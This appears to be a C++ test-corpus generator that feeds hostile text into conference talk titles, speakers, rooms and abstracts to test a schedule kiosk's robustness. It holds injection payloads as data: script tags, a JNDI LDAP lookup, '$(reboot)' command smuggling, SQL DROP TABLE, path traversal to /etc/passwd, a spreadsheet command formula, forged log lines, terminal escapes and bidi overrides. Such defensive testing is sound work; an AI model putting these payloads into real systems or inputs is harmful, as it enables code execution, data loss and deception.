// Table C of the catalogue: texts that attack whoever shows, prints or believes them.
#include <fmt/format.h>

#include "hostile/corpus.hpp"
#include "hostile/event_file.hpp"

namespace kiosk {
namespace {

using namespace std::string_view_literals;

std::string repeated(std::string_view unit, int times) {
    std::string text;
    for (int i = 0; i < times; ++i) text += unit;
    return text;
}

std::string file_name(std::string_view what, Writer const& writer) { return fmt::format("{}-{}.{}", writer.name, what, writer.extension); }

/// The text as a title, as a name and as a room: of one talk each.
void add_everywhere(Corpus& corpus, std::string_view row, std::string_view what, std::string const& text) {
    for (auto const& writer : writers()) {
        auto event = ten_talks(corpus.chance);
        event.name += " " + text.substr(0, 500);
        event.talks[2].title = text;
        event.talks[4].speaker = text.substr(0, 2000);
        event.talks[6].room = text.substr(0, 2000);
        event.talks[8].abstract = text;
        corpus.add(row, file_name(what, writer), written(writer, event), {-1, 7, 12, -1, -1, -1});
    }
}

/// The same as a title alone, on a line that a problem must name.
void add_title(Corpus& corpus, std::string_view row, std::string_view what, std::string const& text) {
    for (auto const& writer : writers()) {
        auto event = ten_talks(corpus.chance);
        std::size_t const place = 1 + corpus.chance.below(8);
        event.talks[place].title = text;
        std::pair<int, int> lines;
        auto const bytes = written(writer, event, place, lines);
        corpus.add(row, file_name(what, writer), bytes, {-1, 9, 10, lines.first, lines.second, static_cast<int>(place)});
    }
}

std::string marks(Corpus& corpus, int count) {
    std::string text = "Z";
    for (int i = 0; i < count; ++i) text += fmt::format("\xCC{}", static_cast<char>(0x80 + corpus.chance.below(0x3F)));
    return text + "algo";
}

void add_controls(Corpus& corpus) {
    for (auto const text : {"\x1B[31mred\x1B[0m"sv, "\x1B]0;owned\x07"sv, "a\x01\x02\x03\x04\x05\x06\x07\x08\x0E\x1F\x7F" "b"sv, "\xC2\x80\xC2\x85\xC2\x9B" "31m"sv, "\x1B[2J\x1B[H"sv, "\x9B" "31m"sv})
        add_everywhere(corpus, "C3", "c0-controls", "Talk " + std::string(text) + " end");
    for (auto const text : {"Talk\nkiosk: error: fake_line [forged]"sv, "Talk\r\nkiosk: error: fake_line [forged]"sv, "Talk\xE2\x80\xA8kiosk: error: fake_line [forged]"sv, "Talk\x0Bkiosk: error: fake_line [forged]"sv})
        add_everywhere(corpus, "C4", "log-injection", std::string(text));
    for (auto const text : {"Talk\0hidden"sv, "\0Talk"sv, "Talk\0"sv, "\0\0\0"sv}) add_everywhere(corpus, "C5", "bytes-nul", std::string(text));
    for (auto const* escape : {"Talk\\u0000hidden", "Talk\\x00hidden", "Talk%00hidden", "Talk&#0;hidden", "Talk\\0hidden"}) {
        auto text = written(writer_of("frab-json"), ten_talks(corpus.chance));
        corpus.add("C5", "escaped-nul.json", text.insert(text.find("How to"), escape));
        text = written(writer_of("yaml"), ten_talks(corpus.chance));
        corpus.add("C5", "escaped-nul.yaml", text.insert(text.find("How to"), escape));
    }
}

void add_bad_bytes(Corpus& corpus) {
    for (auto const text : {"\xFF\xFE"sv, "\xC0\xAF"sv, "\xED\xA0\x80\xED\xB0\x80"sv, "\xF4\x90\x80\x80"sv, "\xE2\x82"sv, "\x80\x80"sv, "\xEF\xBF\xBE\xEF\xBF\xBF"sv, "\xF8\x88\x80\x80\x80"sv})
        add_everywhere(corpus, "C6", "bytes", "Talk " + std::string(text) + " end");
    for (auto const* escape : {"\\ud800", "\\udc00\\ud800", "\\uffff", "\\ud83d"}) {
        auto text = written(writer_of("frab-json"), ten_talks(corpus.chance));
        corpus.add("C6", "lone-surrogate.json", text.insert(text.find("How to"), escape));
    }
    for (auto const* entity : {"&#xD800;", "&#x110000;", "&#0;", "&#xFFFF;", "&#99999999999;", "&bogus;", "&amp;amp;amp;"})
        for (auto const* name : {"frab-xml", "html", "xcal"}) {
            auto text = written(writer_of(name), ten_talks(corpus.chance));
            corpus.add("C6", file_name("entities", writer_of(name)), text.insert(text.find("How to"), entity));
        }
}

void add_markup(Corpus& corpus) {
    for (auto const* text : {"<script>alert(1)</script>", "%s%n%x%p{}{0}{:9999999999}", "${jndi:ldap://10.0.0.1/a}", "$(reboot)`reboot`; reboot", "'; DROP TABLE talks; --", "<img src=x onerror=alert(1)>",
                             "../../../etc/passwd", "=cmd|' /C calc'!A0", "https://user:secret@10.0.0.1/?token=abc", "&lt;b&gt;not bold&lt;/b&gt;", "**bold** `code` [a](javascript:x)", "\\textbf{x} $\\frac{a}{b}$"})
        add_everywhere(corpus, "C8", "markup-as-text", text);
}

void add_long(Corpus& corpus) {
    constexpr int size = 1'000'000;
    add_title(corpus, "C9", "title-1mb-words", repeated("fold ", size / 5));
    add_title(corpus, "C9", "title-1mb-unbroken", repeated("x", size));
    add_title(corpus, "C9", "title-1mb-arabic", repeated("\xD8\xB7\xD9\x8A ", size / 5));
    add_title(corpus, "C9", "title-400", repeated("fold ", 80));
    add_everywhere(corpus, "C10", "newlines-200k", "Talk" + repeated("\n", 200'000) + "end");
    add_everywhere(corpus, "C10", "crlf", "Talk\r\nin two\r\n\r\nlines");
    for (auto const& writer : writers()) {
        auto event = ten_talks(corpus.chance);
        event.talks[5].abstract = "See https://example.org/" + repeated("a", 10'000);
        corpus.add("C11", file_name("url-10k", writer), written(writer, event), sessions(10));
    }
}

void add_scripts(Corpus& corpus) {
    static constexpr std::string_view scripts[] = {
        "\u4eba\u5de5\u667a\u80fd\u7684\u672a\u6765", "\u6a5f\u68b0\u5b66\u7fd2", "\uae30\uacc4 \ud559\uc2b5", "\u0627\u0644\u062a\u0639\u0644\u0645", "\u05dc\u05de\u05d9\u05d3\u05d4", "\u092e\u0936\u0940\u0928", "\u0e01\u0e32\u0e23\u0e40\u0e23\u0e35\u0e22\u0e19\u0e23\u0e39\u0e49",
        "\u10db\u10d0\u10dc\u10e5\u10d0\u10dc\u10e3\u10e0\u10d8", "\u0544\u0565\u0584\u0565\u0576\u0561", "\u12e8\u121b\u123d\u1295", "\u13a3\u13b5", "\u1403\u14c4\u1483", "\u1820\u1821", "\u0f56\u0f7c\u0f51", "\u1019\u103c\u1014\u103a", "\u1781\u17d2\u1798\u17c2\u179a", "\u0ea5\u0eb2\u0ea7",
        "\u0bae\u0bc6\u0baf\u0bcd", "\u0c24\u0c46\u0c32\u0c41", "\u0d2e\u0d32", "\U00012000\U00012001", "\U0001F600\U0001F468\u200D\U0001F469\u200D\U0001F467", "\U0001D54F\U0001D7D8"};
    for (auto const script : scripts)
        for (int i = 0; i < 2; ++i) {
            auto event = ten_talks(corpus.chance);
            event.talks[3].title = script;
            auto const& writer = writers()[corpus.chance.below(static_cast<unsigned>(writers().size()))];
            corpus.add("C13", file_name("script", writer), written(writer, event), sessions(10));
        }
}

}  // namespace

void add_texts(Corpus& corpus) {
    for (auto const* text : {"\u202Eolleh", "\u2066open", "\u202A\u202B\u202D\u202Epdf\u202C", "\u200F\u200E\u061Cmarks", "\u2067\u2068\u2069\u2069\u2069"}) add_everywhere(corpus, "C1", "text-bidi", std::string("Talk ") + text + " 12:30");
    add_everywhere(corpus, "C2", "text-zalgo-20k", marks(corpus, 20'000));
    add_everywhere(corpus, "C2", "text-zalgo", marks(corpus, 60));
    add_everywhere(corpus, "C2", "text-zalgo-alone", marks(corpus, 40).substr(1));
    add_controls(corpus);
    add_bad_bytes(corpus);
    for (auto const* text : {"\u200B\u200B", "\u200D", "\u2060\uFEFF", "\u00AD", "\u3164", "\U000E0041", "\u200E", " \u00A0 \u2003 ", "\uE000"}) add_everywhere(corpus, "C7", "invisible-title", text);
    add_markup(corpus);
    add_long(corpus);
    add_scripts(corpus);
}

}  // namespace kiosk
